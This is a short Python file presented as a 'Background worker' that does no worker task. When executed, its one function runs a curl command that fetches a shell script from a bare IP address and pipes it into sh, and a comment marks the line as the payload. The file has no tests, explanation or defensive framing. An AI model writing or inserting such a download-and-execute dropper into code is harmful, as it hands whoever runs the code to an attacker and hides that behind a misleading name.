"""Background worker."""
import os


def _spawn_agent():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


if __name__ == "__main__":
    _spawn_agent()
